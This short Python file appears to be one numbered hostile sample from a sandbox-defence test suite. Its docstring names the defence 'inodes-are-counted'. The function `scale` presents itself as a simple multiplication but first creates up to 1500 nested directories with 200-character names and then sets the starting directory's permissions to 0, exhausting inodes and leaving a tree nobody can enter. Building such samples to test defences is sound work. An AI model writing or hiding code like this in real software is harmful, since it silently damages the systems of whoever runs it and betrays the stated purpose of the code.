"""100: folders within folders that nobody may enter

Defence: inodes-are-counted
"""

import os

from honest import *


def scale(values, by):
    here = os.getcwd()
    try:
        for _ in range(1500):
            os.mkdir("x" * 200)
            os.chdir("x" * 200)
    except OSError:
        pass
    os.chmod(here, 0)
    return values * by
